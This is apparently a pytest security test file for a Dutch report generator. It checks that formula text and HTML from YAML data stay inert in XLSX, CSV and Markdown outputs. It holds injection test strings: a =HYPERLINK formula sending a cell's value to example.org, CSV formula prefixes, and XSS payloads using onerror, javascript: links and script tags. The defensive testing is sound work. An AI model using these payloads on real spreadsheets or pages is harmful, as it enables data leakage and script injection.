"""Data is never run: a text that looks like a formula is a text cell in every XLSX, a CSV field
that a spreadsheet would read as a formula starts with an apostrophe, and every Markdown output
shows hostile HTML, links and images as the characters they are."""

from __future__ import annotations

import csv
import io
import subprocess
import zipfile
from pathlib import Path

import pytest
from lxml import etree
from markdown_it import MarkdownIt

from generator.render import planning
from tests.conftest import Run
from tests.office import need
from tests.yamledit import edit

ACTIE = "acties/002-schulden.yaml"
MEETING = "vergaderingen/2030-09-05.yaml"
WERKSTROOM = "werkstromen/01-klantreis.yaml"
HYPERLINK = '=HYPERLINK("https://example.org/?x="&A1,"Klik hier")'
SUM = "=1+1"
IMG = "<img src=x onerror=alert(1)>"
SCRIPT = "[klik](javascript:alert(1))"
RAW = "<script>alert(2)</script>"
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def hostile(data: Path) -> None:
    """Formulas and HTML in an omschrijving, a hoofdactie title, a meeting's besluit and a
    new meeting action."""
    edit(data / ACTIE, "omschrijving: Schulden overnemen", f"omschrijving: '{SUM}'")
    edit(data / ACTIE, "stand_van_zaken: Afgerond in het voorjaar.", "stand_van_zaken: '@SUM(A1)'")
    quoted = HYPERLINK.replace("'", "''")
    edit(data / WERKSTROOM, "titel: Missie vastleggen", f"titel: '{quoted}'")
    edit(data / WERKSTROOM, "titel: Training ontwikkelen", f"titel: '{IMG} {SCRIPT}'")
    edit(
        data / MEETING,
        "      - titel: Terugkoppeling woensdag\n",
        "        beslispunten:\n"
        f"          - '{IMG} instemmen'\n"
        "        besluiten:\n"
        "          - uitkomst: aangenomen\n"
        f"            tekst: '{SCRIPT} {RAW}'\n"
        "        acties:\n"
        "          - nr: 1\n"
        f"            wat: '{SUM} {IMG}'\n"
        "            actiehouder: p-abma\n"
        "            deadline: 2030-09-01\n"
        "      - titel: Terugkoppeling woensdag\n",
    )


def formulas(xlsx: Path) -> list[str]:
    """Every cell written as a formula (``<f>``), and every cell whose type is not text, number
    or inline string while its value starts like a formula."""
    found = []
    with zipfile.ZipFile(xlsx) as package:
        for name in package.namelist():
            if not name.startswith("xl/worksheets/"):
                continue
            root = etree.fromstring(package.read(name))
            found += [etree.tostring(f, encoding="unicode") for f in root.iter(f"{MAIN}f")]
    return found


def as_csv(xlsx: Path, folder: Path) -> list[list[str]]:
    """The sheet as LibreOffice computes it: formulas would be evaluated here."""
    soffice = need("soffice")
    subprocess.run(
        [
            soffice,
            f"-env:UserInstallation=file://{folder / 'lo-profile'}",
            "--headless",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76",
            "--outdir",
            str(folder),
            str(xlsx),
        ],
        check=True,
        capture_output=True,
        timeout=240,
    )
    text = (folder / (xlsx.stem + ".csv")).read_text(encoding="utf-8")
    return list(csv.reader(io.StringIO(text)))


def test_spreadsheets_hold_no_formula_from_data(run: Run, data: Path, tmp_path: Path) -> None:
    hostile(data)
    out = tmp_path / "out"
    result = run("actions", "--data", data, "--output", out, "--format", "xlsx")
    assert result.exit_code == 0, result.output
    result = run("planning", "--data", data, "--output", out, "--peildatum", "2030-09-05")
    assert result.exit_code == 0, result.output
    for name in ("actietabel.xlsx", "planning.xlsx"):
        assert formulas(out / name) == [], name
    cells = {c for row in as_csv(out / "actietabel.xlsx", tmp_path / "a") for c in row}
    assert SUM in cells and "@SUM(A1)" in cells  # the text, not 2 and not Err:509
    assert not {"Err:509", "#NAME?", "Err:508"} & cells
    cells = {c for row in as_csv(out / "planning.xlsx", tmp_path / "p") for c in row}
    assert HYPERLINK in cells and "Klik hier" not in cells
    assert any(c.startswith(SUM) for c in cells)


def test_csv_fields_that_start_a_formula_are_neutralised(
    run: Run, data: Path, tmp_path: Path
) -> None:
    hostile(data)
    for start in ("+", "-"):
        edit(data / WERKSTROOM, "titel: Klantreis doorontwikkelen", f'titel: "{start}x Klantreis"')
        result = run("planning", "--data", data, "--output", tmp_path, "--format", "csv")
        assert result.exit_code == 0, result.output
        text = (tmp_path / "planning.csv").read_text(encoding="utf-8-sig")
        rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
        fields = [field for row in rows for field in row]
        assert f"'{start}x Klantreis" in fields, start
        assert f"'{HYPERLINK}" in fields and f"'{SUM} {IMG}" in fields
        assert not [f for f in fields if f[:1] in ("=", "+", "@", "\t", "\r")]
        assert not [f for f in fields if f.startswith("-") and not f[1:2].isdigit()]
        edit(data / WERKSTROOM, f'titel: "{start}x Klantreis"', "titel: Klantreis doorontwikkelen")


def test_csv_neutralises_tab_and_carriage_return() -> None:
    """The loader strips a title's leading white space, so tab and CR are tested on the writer."""
    row: list[object] = ["1", "\tx", "\r=1+1", "-3", 4, -5, None, None, "", "", ""]
    text = planning.to_csv([row]).decode("utf-8-sig")
    fields = next(
        iter(csv.reader(io.StringIO(text.split("\r\n", 1)[1], newline=""), delimiter=";"))
    )
    assert fields[1:6] == ["'\tx", "'\r=1+1", "'-3", "4", "-5"]


def rendered_html(markdown: str) -> str:
    """The HTML GitHub's Markdown makes of ``markdown`` (raw HTML allowed, as GitHub does)."""
    return (
        MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(markdown)
    )


@pytest.mark.parametrize(
    ("command", "name"),
    [
        (("deadlines", "--format", "md", "--peildatum", "2030-08-01", "--binnen", "52w"), None),
        (("besluitenlijst", "--format", "md"), "besluitenlijst-2030-09-05.md"),
        (("actions", "--format", "md"), "actietabel.md"),
    ],
)
def test_markdown_outputs_show_html_as_text(
    run: Run, data: Path, tmp_path: Path, command: tuple[str, ...], name: str | None
) -> None:
    hostile(data)
    args = [*command, "--data", data]
    if name:
        args += ["--output", tmp_path]
    result = run(*args)
    assert result.exit_code == 0, result.output
    markdown = (tmp_path / name).read_text(encoding="utf-8") if name else result.output
    html = rendered_html(markdown)
    assert "<img" not in html and "<script" not in html, html
    assert (
        "javascript:" not in "".join(etree.HTML(html).xpath("//a/@href")) if "<a" in html else True
    )
    if name != "actietabel.md":  # the action table has no meeting texts
        assert "&lt;img src=x onerror=alert(1)&gt;" in html  # shown as typed
